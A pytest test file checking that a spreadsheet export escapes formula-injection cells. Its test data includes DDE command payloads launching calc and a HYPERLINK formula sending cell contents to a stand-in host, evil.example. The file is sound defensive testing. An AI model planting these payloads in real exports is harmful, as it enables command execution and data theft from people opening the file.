"""No cell of a table is run, however a spreadsheet parts the cells."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stopa.dossier.exports.spreadsheet import FORMULA, cell, line, table
from tests.dossier.hostile import FORMULAS

# What a spreadsheet runs: the classes of OWASP's page, each way that one can be hidden.
RUN = (
    *FORMULAS,
    "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "=DDE(1)",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "  \t =1+1", "\n=1", "\r\n=1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "﹦1+1", "|calc", "%0A=1", '=HYPERLINK("https://evil.example?x="&A1,"click")',
)  # fmt: skip
HARMLESS = (
    "powershell.exe -enc", "10.0.0.1", "", "a=b", "a; b; c", 'say "no"', "C:\\x", "1-2", "é", "a;",
)  # fmt: skip


def parted(row: str, delimiter: str) -> list[str]:
    """Return the cells of a row as a spreadsheet with that separator sees them."""
    (cells,) = csv.reader(io.StringIO(row, newline=""), delimiter=delimiter)
    return cells


def is_run(text: str) -> bool:
    return text.lstrip().startswith(FORMULA)


@pytest.mark.parametrize("text", RUN)
def test_a_formula_is_shown_not_run(text: str) -> None:
    assert not is_run(cell(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text
    assert parted(line([text, "x"]), ",") == [text, "x"]


@pytest.mark.parametrize("text", RUN)
@pytest.mark.parametrize("before", [";", "; ", ";\t", ';"', ';""', '"; "', ';";'])
def test_a_formula_after_a_semicolon_is_shown_not_run(text: str, before: str) -> None:
    """Where a semicolon parts cells, quotation marks hold none together that does not begin so."""
    row = line(["2025-05-28", f"whoami{before}{text};tail", "end"])
    for delimiter in (",", ";", "\t"):
        assert not [one for one in parted(row, delimiter) if is_run(one)], (row, delimiter)


@given(st.lists(st.text(alphabet="=+-@;,\" \t\nab|%＝'", max_size=12), min_size=1, max_size=4))
def test_no_cells_can_be_written_that_are_run(cells: list[str]) -> None:
    row = line(cells)
    assert len(parted(row, ",")) == len(cells)
    for delimiter in (",", ";", "\t"):
        assert not [one for one in parted(row, delimiter) if is_run(one)], row


def test_a_table_has_its_mark_its_ends_of_lines_and_what_every_row_says() -> None:
    made = table(("a", "b"), [["1", "=2"], ["3", "4"]], {"tlp": "TLP:RED"})
    assert made == b'\xef\xbb\xbf"a","b","tlp"\r\n"1","\'=2","TLP:RED"\r\n"3","4","TLP:RED"\r\n'
    assert table(("a",), [], {}) == b'\xef\xbb\xbf"a"\r\n'
